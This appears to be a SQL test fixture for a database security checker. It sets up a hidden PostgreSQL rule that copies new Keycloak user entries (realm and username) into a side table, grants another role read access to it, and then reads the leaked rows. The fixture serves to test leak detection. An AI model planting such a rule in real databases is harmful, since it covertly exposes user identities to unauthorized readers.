-- A rule copies what is inserted to a table that all read.
-- object: public.user_feed
-- base: realm
--- setup
RESET ROLE; CREATE TABLE user_feed (realm_id varchar(36), username varchar(255)); CREATE RULE feed AS ON INSERT TO user_entity DO ALSO INSERT INTO user_feed VALUES (NEW.realm_id, NEW.username); ALTER TABLE user_feed OWNER TO {owner};
--- leak
GRANT SELECT ON user_feed TO {keycloak};
--- victim
INSERT INTO user_entity (realm_id, username) VALUES ('bolt', 'new');
--- exploit
SELECT FROM user_feed WHERE realm_id = 'bolt';
